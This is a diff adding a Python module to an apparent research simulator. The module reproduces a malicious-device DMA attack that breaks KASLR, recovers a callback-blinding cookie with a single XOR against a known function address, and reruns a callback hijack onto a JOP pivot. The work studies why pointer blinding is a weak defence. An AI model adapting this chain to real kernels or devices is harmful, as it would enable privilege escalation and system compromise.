@@ -1,0 +1,144 @@
+"""Compound bypass of callback-pointer blinding (section 7, macOS).
+
+"MacOS ... blinding the exposed callback pointer ext_free by XORing it
+with a secret cookie. Indeed, this is sufficient to defend against
+*single-step* attacks. However ... ext_free can receive only one of
+two possible values. As a result, once an attacker compromises MacOS
+KASLR, the random cookie is revealed by a single XOR operation."
+
+The Linux-flavoured equivalent here: the victim blinds the
+``ubuf_info.callback`` it stores for MSG_ZEROCOPY transmissions. The
+attacker
+
+1. breaks KASLR from TX-page leaks (blinding hides nothing there),
+2. coerces a large echo so the response uses zerocopy, reads the
+   (unblinded) ``destructor_arg`` off the TX-mapped linear page, and
+   turns it into the ubuf's PFN,
+3. reads the ubuf's page via the surveillance primitive; the stored
+   callback can only be ``sock_def_write_space``, so
+   ``cookie = stored XOR known_plaintext``,
+4. re-runs the standard hijack with the blob's callback word
+   pre-XORed by the cookie -- the kernel's unblinding now lands on the
+   JOP pivot.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import TYPE_CHECKING
+
+from repro.core.attacks.device import MaliciousDevice
+from repro.core.attacks.kaslr_leak import break_kaslr_via_tx
+from repro.core.attacks.poisoned_tx import run_poisoned_tx
+from repro.core.attacks.surveillance import read_arbitrary_pages
+from repro.core.attributes import VulnerabilityAttributes
+from repro.mem.phys import PAGE_SIZE
+from repro.net.proto import PROTO_UDP, make_packet
+from repro.net.stack import ECHO_PORT
+from repro.net.structs import SKB_SHARED_INFO, skb_shared_info_offset
+
+if TYPE_CHECKING:
+    from repro.net.nic import Nic
+    from repro.sim.kernel import Kernel
+
+_DESTRUCTOR_ARG_OFF = SKB_SHARED_INFO.field("destructor_arg").offset
+
+#: buf_size of the linear head for large echoes (public stack config).
+ECHO_LINEAR_BUF_SIZE = 256
+
+
+@dataclass
+class BlindingBypassReport:
+    attributes: VulnerabilityAttributes
+    cookie_recovered: int | None = None
+    escalated: bool = False
+    stage_log: list[str] = field(default_factory=list)
+
+
+def recover_blinding_cookie(kernel: "Kernel", nic: "Nic",
+                            device: MaliciousDevice, *,
+                            cpu: int = 0) -> int | None:
+    """Stages 2+3: observe one blinded callback, XOR with plaintext."""
+    # Coerce a zerocopy echo (payload above the victim's threshold).
+    request = make_packet(dst_ip=0x0A00_0001, dst_port=ECHO_PORT,
+                          proto=PROTO_UDP, flow_id=0x5500,
+                          payload=b"Z" * 700)
+    if not nic.device_receive(request, cpu=cpu):
+        return None
+    nic.napi_poll(cpu=cpu)
+    kernel.stack.process_backlog()
+    shared_info_off = skb_shared_info_offset(ECHO_LINEAR_BUF_SIZE)
+    ubuf_kva = None
+    delayed = []
+    frag0_page_off = SKB_SHARED_INFO.field("frags[0].page").offset
+    for desc, _data in nic.device_fetch_tx(cpu=cpu, complete=False):
+        candidate = device.dma_read_u64(
+            desc.linear_iova + shared_info_off + _DESTRUCTOR_ARG_OFF)
+        if candidate:
+            ubuf_kva = candidate
+            delayed.append(desc)  # keep the ubuf alive
+            if device.knowledge.vmemmap_base is None:
+                page_ptr = device.dma_read_u64(
+                    desc.linear_iova + shared_info_off + frag0_page_off)
+                if page_ptr:
+                    device.knowledge.vmemmap_base = \
+                        device.leak_scanner.recover_vmemmap_base(page_ptr)
+        else:
+            nic.device_complete_tx(desc)
+    if ubuf_kva is None or device.knowledge.page_offset_base is None:
+        for desc in delayed:
+            nic.device_complete_tx(desc)
+        nic.tx_clean(cpu=cpu)
+        return None
+    ubuf_paddr = ubuf_kva - device.knowledge.page_offset_base
+    ubuf_pfn = ubuf_paddr // PAGE_SIZE
+    report = read_arbitrary_pages(kernel, nic, device, [ubuf_pfn], cpu=cpu)
+    page = report.pages_read.get(ubuf_pfn, b"")
+    offset = ubuf_paddr % PAGE_SIZE
+    stored = int.from_bytes(page[offset:offset + 8], "little")
+    # The field can hold only one legitimate value: the zerocopy
+    # completion handler. One XOR reveals the cookie.
+    plaintext = device.knowledge.symbol_kva("sock_def_write_space")
+    cookie = stored ^ plaintext
+    for desc in delayed:
+        nic.device_complete_tx(desc)
+    nic.tx_clean(cpu=cpu)
+    return cookie
+
+
+def run_blinding_bypass(kernel: "Kernel", nic: "Nic",
+                        device: MaliciousDevice, *,
+                        cpu: int = 0) -> BlindingBypassReport:
+    """Full compound attack against a blinding victim.
+
+    Requires the victim to forward packets (for the surveillance read)
+    and to use MSG_ZEROCOPY for large sends -- both standard features.
+    """
+    attrs = VulnerabilityAttributes()
+    report = BlindingBypassReport(attributes=attrs)
+    if not break_kaslr_via_tx(kernel, nic, device, cpu=cpu):
+        report.stage_log.append("KASLR break failed; aborting")
+        return report
+    report.stage_log.extend(device.knowledge.notes)
+    cookie = recover_blinding_cookie(kernel, nic, device, cpu=cpu)
+    if cookie is None:
+        report.stage_log.append("could not observe a blinded callback")
+        return report
+    device.knowledge.blinding_cookie = cookie
+    report.cookie_recovered = cookie
+    report.stage_log.append(
+        f"blinding cookie {cookie:#018x} = stored XOR "
+        f"sock_def_write_space (single XOR, section 7)")
+    attrs.record_callback_access(
+        "blinded callback field writable; cookie recovered, so the "
+        "stored value can be forged")
+    # Stage 4: the standard Poisoned-TX hijack now works -- the blob's
+    # callback word is pre-XORed with the cookie.
+    inner = run_poisoned_tx(kernel, nic, device, cpu=cpu)
+    report.stage_log.extend(inner.stage_log)
+    if inner.attributes.malicious_buffer_kva.obtained:
+        attrs.malicious_buffer_kva = inner.attributes.malicious_buffer_kva
+    if inner.attributes.time_window.obtained:
+        attrs.time_window = inner.attributes.time_window
+    report.escalated = inner.escalated
+    return report
